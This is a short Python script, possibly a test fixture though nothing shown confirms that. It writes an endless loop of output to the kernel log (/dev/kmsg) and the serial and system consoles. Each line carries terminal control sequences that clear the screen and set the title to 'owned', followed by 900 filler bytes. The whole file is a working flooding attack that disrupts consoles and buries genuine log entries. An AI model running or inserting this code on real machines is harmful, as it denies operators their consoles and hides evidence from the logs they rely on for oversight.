# SPDX-License-Identifier: Apache-2.0
# Floods the kernel log and the serial console, with terminal controls among it.
import os

fds = []
for path in ("/dev/kmsg", "/dev/ttyS0", "/dev/hvc0", "/dev/console"):
    try:
        fds.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        pass
line = b"\x1b[2J\x1b]0;owned\x07" + b"A" * 900 + b"\n"
while True:
    for fd in fds:
        try:
            os.write(fd, line)
        except OSError:
            pass
